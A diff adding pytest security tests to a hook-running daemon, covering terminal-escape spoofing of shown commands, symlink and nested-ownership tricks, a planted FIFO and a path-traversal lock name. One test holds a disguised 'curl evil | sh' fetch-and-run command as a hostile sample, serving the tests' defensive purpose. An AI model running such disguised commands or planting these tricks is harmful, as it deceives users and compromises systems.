@@ -248,3 +248,74 @@ def test_a_daemon_that_cannot_become_the_owner_runs_nothing(tmp_path, config_hom
     assert status.startswith(f"error: {h.ws.root} belongs to uid {owner_uid}")
     assert "cannot act as its owner; nothing was run" in status
     assert not list((h.ws.logs / "hooks").rglob("*.log"))  # nothing was started
+
+
+# -- what the review of the first version found ---------------------------------------------
+
+def test_shown_commands_cannot_redraw_the_line_they_are_on():
+    """A command hiding a carriage return and an erase-line would show as a harmless one."""
+    argv = ["sh", "-c", "curl evil | sh\r\x1b[2K  echo hi"]
+    text = trust.shown(argv)
+    assert "\r" not in text and "\x1b" not in text
+    assert "\\r\\x1b[2K" in text
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give folders to other users")
+def test_the_owner_is_whoever_could_replace_the_workspace(tmp_path, config_home):
+    """A link on the way, or a folder of one user inside another's, decides nothing: a root
+    daemon would otherwise take a workspace for root's and act as root."""
+    from sidecar.owner import CannotActAsOwner, owner_uid
+
+    real = tmp_path / "real"
+    (real / ".context").mkdir(parents=True)
+    assert owner_uid(Workspace(real)) == 0  # every folder on the way is root's
+    (tmp_path / "link").symlink_to(real)
+    with pytest.raises(CannotActAsOwner, match="is a symlink"):
+        owner_uid(Workspace(tmp_path / "link"))
+    outer = tmp_path / "alice"
+    (outer / "bob" / ".context").mkdir(parents=True)
+    os.chown(outer, 65534, 65534)
+    assert owner_uid(Workspace(outer)) == 65534
+    os.chown(outer / "bob", 65533, 65533)
+    with pytest.raises(CannotActAsOwner, match="who could replace it"):
+        owner_uid(Workspace(outer / "bob"))
+    root_owned_inside = outer / "rootdir"
+    (root_owned_inside / ".context").mkdir(parents=True)
+    assert owner_uid(Workspace(root_owned_inside)) == 65534  # alice could swap it: hers
+
+
+def test_a_fifo_where_a_trace_belongs_is_refused_at_once(tmp_path, config_home):
+    """A planted FIFO at sessions/<id>/trace.jsonl would block the daemon's next write."""
+    import threading
+
+    from sidecar import jsonfile
+
+    ws = Workspace(tmp_path / "ws")
+    ws.ensure_runtime()
+    folder = ws.sessions / "abc"
+    folder.mkdir()
+    os.mkfifo(folder / "trace.jsonl")
+    done = threading.Event()
+    errors: list[BaseException] = []
+
+    def append() -> None:
+        try:
+            jsonfile.append_lines(folder / "trace.jsonl", [{"x": 1}])
+        except (OSError, ValueError) as exc:
+            errors.append(exc)
+        done.set()
+
+    threading.Thread(target=append, daemon=True).start()
+    assert done.wait(5), "the append waited on the FIFO"
+    assert errors
+
+
+def test_a_claim_owner_that_is_a_path_names_no_instance(tmp_path, config_home):
+    from sidecar.instances import is_alive
+
+    ws = Workspace(tmp_path / "ws")
+    ws.ensure_runtime()
+    outside = tmp_path / "elsewhere.lock"
+    outside.write_bytes(b"")
+    assert not is_alive(ws, "../../elsewhere")
+    assert not (ws.locks / "instance-..").exists()
